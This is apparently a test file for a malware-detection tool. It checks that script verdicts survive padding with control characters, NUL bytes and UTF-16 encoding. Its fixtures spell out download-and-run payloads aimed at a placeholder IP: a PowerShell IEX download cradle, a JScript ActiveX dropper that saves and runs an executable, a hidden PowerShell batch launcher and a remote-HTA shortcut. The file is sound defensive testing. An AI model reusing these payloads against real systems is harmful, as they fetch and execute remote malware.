// Control characters make no script unreadable: what its host runs is what is read.
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { test } from 'node:test'
import { identify } from '../../../src/file/identify/identify.ts'
import { analyzeFile } from '../../../src/index.ts'

const now = new Date('2026-01-01T00:00:00Z')
const judge = async (bytes: Uint8Array, fileName: string): Promise<string> =>
  (await analyzeFile(bytes, { fileName, now })).verdict.label

const CRADLE = "$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://203.0.113.7/a.ps1')\r\n"
const DROPPER =
  'var s = new ActiveXObject("WScript.Shell");\nvar x = new ActiveXObject("MSXML2.XMLHTTP");\nx.open("GET", "http://203.0.113.7/a.exe", false);\nx.send();\nvar t = new ActiveXObject("ADODB.Stream");\nt.Open(); t.Type = 1; t.Write(x.responseBody); t.SaveToFile("a.exe", 2);\ns.Run("a.exe", 0);\n'
const BATCH =
  '@echo off\r\npowershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"\r\n'
const SHORTCUT = '[InternetShortcut]\r\nURL=file://203.0.113.7/share/a.hta\r\n'

const SCRIPTS: Readonly<Record<string, readonly [name: string, text: string, comment: string]>> = {
  PowerShell: ['a.ps1', CRADLE, '#'],
  'JScript, by its name': ['a.js', DROPPER, '//'],
  'a batch file': ['a.bat', BATCH, 'rem '],
  'an internet shortcut': ['a.url', SHORTCUT, ';'],
}
const bytes = (text: string): Buffer => Buffer.from(text, 'latin1')

for (const [name, [fileName, text, comment]] of Object.entries(SCRIPTS)) {
  const riddled: Readonly<Record<string, Buffer>> = {
    'a comment of \\x01 behind': bytes(`${text}${comment}${'\x01'.repeat(400)}\r\n`),
    'a comment of controls in front': bytes(`${comment}${'\x01\x02\x7f'.repeat(20_000)}\r\n${text}`),
    'NULs behind': Buffer.concat([bytes(text), Buffer.alloc(2000)]),
    'UTF-16 with a mark': Buffer.from(`\ufeff${comment}${'\x01'.repeat(900)}\r\n${text}`, 'utf16le'),
  }
  for (const [how, content] of Object.entries(riddled))
    test(`${name} is convicted with ${how} as without`, async () => {
      assert.ok(['malicious', 'suspicious'].includes(await judge(bytes(text), fileName)))
      assert.equal(await judge(content, fileName), await judge(bytes(text), fileName))
    })
}

test('a script without a name is told by its content', () => {
  assert.equal(identify(bytes(`${CRADLE}${CRADLE}#${'\x01'.repeat(90)}`), null).id, 'powershell')
})

test('an honest script between control characters is not clean: others may read something else', async () => {
  const riddled = bytes(`Write-Output "Hello"\r\nGet-Date\r\n#${'\x01'.repeat(400)}\r\n`)
  assert.equal(await judge(riddled, 'a.ps1'), 'unknown')
})

test('noise, tables of numbers and records are no scripts, whatever they are called', () => {
  const noise = Buffer.concat(Array.from({ length: 400 }, (_, at) => createHash('sha256').update(`${at}`).digest()))
  const numbers = Buffer.alloc(4000, Buffer.from([7, 0, 0, 0, 200, 1, 0, 0, 130, 9]))
  const records = Buffer.concat(Array.from({ length: 200 }, (_, at) => Buffer.from(`\x02\x00name ${at}\x00\x01\x03`)))
  for (const name of ['a.bin', 'a.js', null]) assert.equal(identify(noise, name).id, 'data')
  for (const data of [numbers, records]) assert.equal(identify(data, 'a.bin').id, 'data')
})
